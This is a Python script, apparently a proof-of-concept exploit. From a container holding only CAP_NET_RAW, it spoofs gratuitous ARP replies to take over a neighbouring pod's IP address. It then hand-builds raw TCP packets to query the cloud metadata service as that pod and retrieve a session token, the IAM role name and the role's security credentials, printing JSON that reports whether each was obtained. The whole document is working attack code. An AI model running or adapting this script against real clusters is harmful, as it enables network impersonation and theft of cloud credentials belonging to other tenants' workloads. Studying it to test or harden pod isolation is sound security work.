# A pod that has CAP_NET_RAW and nothing else takes its neighbour's address: it claims it by gratuitous
# ARP and speaks TCP from it by itself. Prints what the metadata service tells it: JSON.
import json, os, random, re, socket, struct, sys, threading, time

victim, metadata = sys.argv[1], '169.254.169.254'
with open('/proc/net/route') as routes:
    gateway = socket.inet_ntoa(struct.pack('<I', next(
        int(fields[2], 16) for fields in map(str.split, routes) if fields[1] == '00000000')))
# The kernel finds the gateway's MAC address for us.
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
found = None
while not found or found.group(1) == '00:00:00:00:00:00':
    probe.sendto(b'', (gateway, 9))
    time.sleep(0.3)
    found = re.search(r'^%s\s+\S+\s+\S+\s+(\S+)' % re.escape(gateway), open('/proc/net/arp').read(), re.M)
to_mac = bytes.fromhex(found.group(1).replace(':', ''))
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(('eth0', 0))
own_mac = wire.getsockname()[4]


def claim():
    address = socket.inet_aton(victim)
    while True:
        wire.send(b'\xff' * 6 + own_mac + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, 2)
                  + own_mac + address + b'\xff' * 6 + address)
        time.sleep(0.02)


def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


class Connection:
    def __init__(self):
        self.port = random.randrange(20000, 60000)
        self.seq, self.ack = random.randrange(1 << 31), 0

    def send(self, flags, payload=b''):
        ends = socket.inet_aton(victim) + socket.inet_aton(metadata)
        head = struct.pack('!HHIIBBHHH', self.port, 80, self.seq, self.ack, 5 << 4, flags, 64240, 0, 0)
        pseudo = ends + struct.pack('!BBH', 0, 6, len(head) + len(payload))
        head = head[:16] + struct.pack('!H', checksum(pseudo + head + payload)) + head[18:]
        ip = struct.pack('!BBHHHBBH', 0x45, 0, 40 + len(payload), random.randrange(65536), 0, 64, 6, 0) + ends
        ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
        wire.send(to_mac + own_mac + b'\x08\x00' + ip + head + payload)

    def segments(self, until):
        while time.time() < until:
            wire.settimeout(max(0.01, until - time.time()))
            try:
                frame = wire.recv(65536)
            except socket.timeout:
                return
            if frame[12:14] != b'\x08\x00' or frame[23] != 6 or frame[26:30] != socket.inet_aton(metadata):
                continue
            packet = frame[14:14 + struct.unpack('!H', frame[16:18])[0]]
            tcp = packet[(packet[0] & 15) * 4:]
            source, target, seq, _, offset, flags = struct.unpack('!HHIIBB', tcp[:14])
            if (source, target) == (80, self.port):
                yield seq, flags, tcp[(offset >> 4) * 4:]

    # The body of the answer; None where none came.
    def ask(self, method, path, headers):
        self.send(0x02)
        for seq, flags, _ in self.segments(time.time() + 2):
            if flags & 0x12 == 0x12:
                self.seq, self.ack = self.seq + 1, seq + 1
                break
        else:
            return None
        lines = ['%s %s HTTP/1.0' % (method, path), 'Host: ' + metadata] + ['%s: %s' % header for header in headers.items()]
        request = '\r\n'.join(lines + ['', '']).encode()
        self.send(0x18, request)
        self.seq += len(request)
        answer = b''
        for seq, flags, payload in self.segments(time.time() + 3):
            if seq == self.ack and payload:
                answer += payload
                self.ack += len(payload)
                self.send(0x10)
            if flags & 0x05:
                break
        self.send(0x14)
        return answer.split(b'\r\n\r\n', 1)[-1].decode() if b'\r\n\r\n' in answer else None


threading.Thread(target=claim, daemon=True).start()
time.sleep(0.3)
listing = '/latest/meta-data/iam/security-credentials/'
token = Connection().ask('PUT', '/latest/api/token', {'X-aws-ec2-metadata-token-ttl-seconds': '60'})
header = {'X-aws-ec2-metadata-token': token or ''}
role = token and Connection().ask('GET', listing, header)
document = role and Connection().ask('GET', listing + role, header)
print(json.dumps({'token': bool(token), 'role': role, 'credentials': bool(document and 'SecretAccessKey' in document)}), flush=True)
# Without waiting for the thread that still claims.
os._exit(0)
